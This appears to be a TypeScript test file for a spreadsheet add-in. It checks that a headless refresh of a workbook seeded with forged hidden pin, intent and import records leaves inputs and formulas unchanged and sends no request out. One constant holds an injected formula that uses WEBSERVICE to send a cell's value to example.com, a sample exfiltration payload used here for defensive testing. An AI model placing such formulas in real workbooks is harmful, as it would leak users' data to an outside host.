/** A refresh without a screen of a model that somebody filled with hidden records: inputs and formulas stay. */
import { toNameFormulas } from "../../src/features/pins/sheet/persisted-string";
import { fingerprint, namesOfPin } from "../../src/features/pins/sheet/pin-records";
import { splitFormula } from "../../src/host/formula-references";
import { openModelFile } from "../../src/model-file/model-file";
import { refreshModel } from "../../src/refresh-cli/model-refresh";
import { makeFile, textsOf } from "../model-file/workbook-bytes";
import { type AddinServer, startAddinServer } from "./built-addin";
import { refreshParts } from "./refresh-parts";

let server: AddinServer;
beforeAll(async () => (server = await startAddinServer()));
afterAll(() => server.close());

const escaped = (text: string): string => text.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;");
const relations = "http://schemas.openxmlformats.org/package/2006/relationships";
const evil = '=RENT.PRICE(A1)&WEBSERVICE("https://example.com/?"&A1)';

const pinNames = (id: number, place: string, value: number, kind: "pin" | "handover") =>
  namesOfPin(
    {
      id,
      kind,
      pieces: splitFormula(evil, "Sheet1"),
      rows: [fingerprint([value])],
      formats: [["General"]],
      keys: [],
    },
    place,
  );
const intentNames = (intent: object) =>
  toNameFormulas([{ text: JSON.stringify({ form: 1, kind: "pin", ...intent }) }]).map((formula) => ({
    name: "_compsheet.freezing",
    formula,
  }));
const importRecord = {
  id: "import-1",
  source: "rents.csv",
  at: "2026-01-31T00:00:00.000Z",
  state: "writing",
  kind: "cell",
  tables: [{ sheet: "Sheet1", table: "Rents", row: 3, column: 0, rows: 1, columns: 1 }],
  rows: 1,
  leftOut: 0,
  shape: "",
  key: null,
  columns: [{ name: "4", type: "number" }],
  before: {
    kind: "cells",
    sheet: "Sheet1",
    blocks: [{ row: 3, column: 0, formulas: [[evil]], formats: [["General"]] }],
  },
};

test.each(["keep", "bring back", "hand over"])(
  "forged pin, intent (%s) and import records change no input",
  async (action) => {
    const names = [
      ...pinNames(1, "Sheet1!$A$2", 1_066, "pin"),
      ...pinNames(2, "Sheet1!$A$3", 1_776, "handover"),
      ...intentNames({ action, ids: "1-2", overwrite: true }),
    ];
    const workbook = `<definedNames>${names
      .map(({ name, formula }) => `<definedName name="${name}" hidden="1">${escaped(formula.slice(1))}</definedName>`)
      .join("")}</definedNames>`;
    const rows = [
      `<row r="1"><c r="A1" t="inlineStr"><is><t>${server.subject}</t></is></c><c r="B1"><f>_xldudf_RENT_PRICE(A1,"1BR")</f><v>1</v></c></row>`,
      '<row r="2"><c r="A2"><v>1066</v></c><c r="B2"><f>A2*2</f><v>2132</v></c></row>',
      '<row r="3"><c r="A3"><v>1776</v></c></row>',
      '<row r="4"><c r="A4"><v>4</v></c></row>',
    ].join("");
    const plain = await textsOf(await makeFile({ rows, workbook }));
    const types = plain.get("[Content_Types].xml") ?? "";
    const links = plain.get("xl/_rels/workbook.xml.rels") ?? "";
    const bytes = await makeFile({
      parts: {
        ...Object.fromEntries(plain),
        "[Content_Types].xml": types.replace(
          "</Types>",
          '<Override PartName="/customXml/itemProps1.xml" ContentType="application/vnd.openxmlformats-officedocument.customXmlProperties+xml"/></Types>',
        ),
        "xl/_rels/workbook.xml.rels": links.replace(
          "</Relationships>",
          '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml" Target="../customXml/item1.xml"/></Relationships>',
        ),
        "customXml/item1.xml": `<import xmlns="urn:compsheet:imports:1" record="import-1" state="writing" chunk="0" of="1">[${escaped(JSON.stringify(importRecord))}]</import>`,
        "customXml/_rels/item1.xml.rels": `<Relationships xmlns="${relations}"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXmlProps" Target="itemProps1.xml"/></Relationships>`,
        "customXml/itemProps1.xml":
          '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml" ds:itemID="{00000000-0000-4000-8000-000000000001}"><ds:schemaRefs/></ds:datastoreItem>',
      },
    });
    const asked: string[] = [];
    const watching: typeof fetch = (input, init) => {
      asked.push(String(input instanceof Request ? input.url : input));
      return fetch(input, init);
    };
    const { bytes: refreshed, report } = await refreshModel(bytes, refreshParts(server, { fetch: watching }));
    expect([report.status, report.problem]).toEqual(["refreshed", null]);
    const { sheets } = await openModelFile(refreshed ?? new Uint8Array(), () => false);
    const cells = sheets[0]?.cells.map(({ row, column, formula, value }) => [row, column, formula ?? null, value]);
    expect(cells).toEqual([
      [0, 0, null, server.subject],
      [0, 1, '_xldudf_RENT_PRICE(A1,"1BR")', expect.any(Number)],
      [1, 0, null, 1_066],
      [1, 1, "A2*2", 2_132],
      [2, 0, null, 1_776],
      [3, 0, null, 4],
    ]);
    expect(asked.filter((url) => url.includes("example.com"))).toEqual([]);
  },
);
